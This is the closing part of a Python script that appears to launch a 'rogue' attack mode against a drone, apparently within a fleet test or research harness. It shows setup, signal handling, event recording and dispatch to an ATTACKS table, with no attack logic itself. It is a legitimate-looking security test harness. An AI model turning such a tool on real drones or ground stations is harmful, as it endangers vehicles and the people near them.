    ctx = Ctx(args.fleet, args.router, args.drone, events, args.duration, args.rate, args.gcs_port, args.wait_go,
              max(1, args.replies), max(0, args.recorded), fc_port=args.fc_port, vehicle_port=args.vehicle_port,
              gcs_port_b=args.gcs_port_b, gcs_keys=args.gcs_keys)
    # on a thread of their own: a handler in the main thread setting an event the main thread waits on
    # can deadlock it (zdrone.net.shutdown); no thread runs yet (the sessions open in the attack)
    route_signals({signal.SIGTERM: ctx.stop.set, signal.SIGUSR2: ctx.go.set})
    try:
        print(f"rogue {args.mode}: attacking {args.drone}", flush=True)
        ATTACKS[args.mode](ctx)
    except ConfigError as exc:
        print(f"rogue: error: {exc}", file=sys.stderr)
        return 2
    finally:
        events.write_record(trec.Closed())
        events.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
